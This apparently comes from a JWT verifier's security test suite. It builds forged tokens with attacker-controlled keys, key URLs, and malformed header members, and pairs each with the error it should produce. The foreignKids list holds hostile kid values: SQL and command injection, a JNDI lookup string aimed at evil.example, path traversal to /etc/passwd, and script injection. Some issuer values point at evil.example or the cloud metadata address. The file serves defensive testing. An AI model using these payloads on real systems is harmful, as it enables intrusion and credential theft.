import { encodePart, jwkOf, makeKey } from '../../support/tokens.ts'
import type { Attack, Victim } from './attack.ts'
import { attacks, forged } from './attack.ts'

const badSignature = 'TOKEN_SIGNATURE_INVALID token-signature'
const unknownKey = 'TOKEN_KEY_UNKNOWN token-key-unknown'
const changing = 'TOKEN_MALFORMED token-header-member'

const foreignKids = [
  'e2',
  'E1',
  ' e1',
  'e1 ',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '../e1',
  '../../../../../../dev/null',
  '/proc/sys/kernel/randomize_va_space',
  'file:///etc/passwd',
  "e1' OR '1'='1",
  "x' UNION SELECT 'secret' -- ",
  'e1; touch /tmp/pwned',
  '| cat /etc/passwd',
  '$(id)',
  '`id`',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '{{7*7}}',
  'e1%00',
  'e1%0a',
  '<script>alert(1)</script>',
  '*',
  '{"$ne":null}',
  'k'.repeat(256),
]

/** Keys that the token brings or points to (53), key ids that are something else (55), members that change how a token is read (62, 67). */
export function headerAttacks(victim: Victim): Attack[] {
  const { ec } = victim.keys
  const { canary } = victim
  const mine = makeKey(ec.keyId)
  const x5c = [mine.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')]
  const brought = {
    jwk: jwkOf(mine),
    jku: `${canary}/jku`,
    x5u: `${canary}/x5u`,
    x5c,
    x5t: 'AAAA',
    'x5t#S256': 'AAAA',
    keys: [jwkOf(mine)],
    iss: `${canary}/`,
    url: `${canary}/url`,
  }
  return [
    ...Object.entries(brought).flatMap(([name, value]) => [
      ...attacks(53, badSignature, {
        [`${name} of another key`]: forged(victim, mine, {}, { [name]: value }),
      }),
      ...attacks(53, 'good', {
        [`${name} that is not looked at`]: forged(victim, ec, {}, { [name]: value }),
      }),
    ]),
    ...attacks(53, badSignature, { 'all of them': forged(victim, mine, {}, brought) }),
    ...attacks(53, unknownKey, {
      'jku with an address as kid': forged(victim, mine, {}, { jku: `${canary}/jku`, kid: `${canary}/kid` }),
      'jwk with an id of its own': forged(victim, mine, {}, { jwk: jwkOf(mine), kid: 'mine' }),
    }),
    ...attacks(54, 'TOKEN_ISSUER_UNKNOWN token-issuer', {
      'an issuer of the attacker': forged(victim, mine, { iss: `${canary}/` }),
      'an issuer on the link-local network': forged(victim, mine, { iss: 'http://169.254.169.254/' }),
      'an issuer below the true one': forged(victim, mine, { iss: `${victim.issuer.issuer}tenant/` }),
      'an issuer with the true one as user': forged(victim, mine, {
        iss: `${victim.issuer.issuer.slice(0, -1)}@evil.example/`,
      }),
    }),
    ...attacks(54, badSignature, {
      'jwks_uri and discovery among the claims': forged(victim, mine, {
        jwks_uri: `${canary}/keys`,
        openid_configuration: `${canary}/discovery`,
      }),
    }),
    ...foreignKids.flatMap(kid =>
      attacks(55, unknownKey, { [`kid ${kid.slice(0, 40)}`]: forged(victim, mine, {}, { kid }) }),
    ),
    ...attacks(55, 'TOKEN_MALFORMED token-kid', {
      'no kid': forged(victim, ec, {}, { kid: undefined }),
      'an empty kid': forged(victim, ec, {}, { kid: '' }),
      'a kid null': forged(victim, ec, {}, { kid: null }),
      'a kid 0': forged(victim, ec, {}, { kid: 0 }),
      'a kid true': forged(victim, ec, {}, { kid: true }),
      'a kid in a list': forged(victim, ec, {}, { kid: ['e1'] }),
      'a kid in an object': forged(victim, ec, {}, { kid: { toString: 'e1' } }),
      'a kid with NUL': forged(victim, ec, {}, { kid: 'e1\0' }),
      'a kid with a line break': forged(victim, ec, {}, { kid: 'e1\r\nX-Tenant-ID: globex' }),
      'a kid with an escape sequence': forged(victim, ec, {}, { kid: '\u001b[2Je1' }),
      'a kid outside ASCII': forged(victim, ec, {}, { kid: 'е1' }),
      'a kid of half a character': forged(victim, ec, {}, { kid: '\ud800' }),
      'a kid that is too long': forged(victim, ec, {}, { kid: 'k'.repeat(257) }),
    }),
    ...attacks(62, changing, {
      'crit with an extension nobody knows': forged(victim, ec, {}, { crit: ['urn:x'], 'urn:x': true }),
      'crit with b64': forged(victim, ec, {}, { crit: ['b64'], b64: true }),
      'crit with b64 false': forged(victim, ec, {}, { crit: ['b64'], b64: false }),
      'crit with a registered member': forged(victim, ec, {}, { crit: ['exp'], exp: 1 }),
      'an empty crit': forged(victim, ec, {}, { crit: [] }),
      'crit null': forged(victim, ec, {}, { crit: null }),
      'crit as text': forged(victim, ec, {}, { crit: 'b64' }),
      'b64 false': forged(victim, ec, {}, { b64: false }),
      'b64 true': forged(victim, ec, {}, { b64: true }),
      'b64 null': forged(victim, ec, {}, { b64: null }),
    }),
    ...attacks(67, changing, {
      zip: forged(victim, ec, {}, { zip: 'DEF' }),
      enc: forged(victim, ec, {}, { enc: 'A256GCM' }),
      epk: forged(victim, ec, {}, { epk: jwkOf(mine) }),
      'p2c of many rounds': forged(victim, ec, {}, { p2c: 2_147_483_647, p2s: 'c2FsdA' }),
      'p2s alone': forged(victim, ec, {}, { p2s: 'c2FsdA' }),
    }),
    ...attacks(67, 'TOKEN_MALFORMED token-shape', {
      'five parts': `${forged(victim, ec)}.AAAA.AAAA`,
      'a JWE of dir': `${encodePart({ alg: 'dir', enc: 'A256GCM' })}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA`,
      'a JWE of RSA-OAEP': `${encodePart({ alg: 'RSA-OAEP', enc: 'A256GCM', kid: 'r1' })}.AAAA.AAAA.AAAA.AAAA`,
      'a JWE of PBES2 with many rounds': `${encodePart({ alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', p2c: 2_147_483_647, p2s: 'c2FsdA' })}.AAAA.AAAA.AAAA.AAAA`,
    }),
    ...attacks(67, 'TOKEN_MALFORMED token-payload', {
      'a token inside a token': forged(victim, ec, forged(victim, ec), { cty: 'JWT' }),
      'a token inside a token, as a JSON string': forged(victim, ec, JSON.stringify(forged(victim, ec))),
      'a token inside a token of somebody else': forged(victim, ec, forged(victim, mine), { cty: 'JWT' }),
    }),
    ...attacks(67, 'TOKEN_MALFORMED token-typ-refused', {
      'the type of a logout token': forged(victim, ec, {}, { typ: 'logout+jwt' }),
      'the type of a proof of possession': forged(victim, ec, {}, { typ: 'dpop+jwt' }),
      'the type of a security event': forged(victim, ec, {}, { typ: 'secevent+jwt' }),
      'the type of an encrypted token': forged(victim, ec, {}, { typ: 'JWE' }),
      'an empty type': forged(victim, ec, {}, { typ: '' }),
      'a type with a parameter': forged(victim, ec, {}, { typ: 'jwt; a=b' }),
    }),
    ...attacks(67, 'TOKEN_MALFORMED token-typ', {
      'a type that is a number': forged(victim, ec, {}, { typ: 1 }),
      'a type that is null': forged(victim, ec, {}, { typ: null }),
      'a type in a list': forged(victim, ec, {}, { typ: ['jwt'] }),
    }),
  ]
}
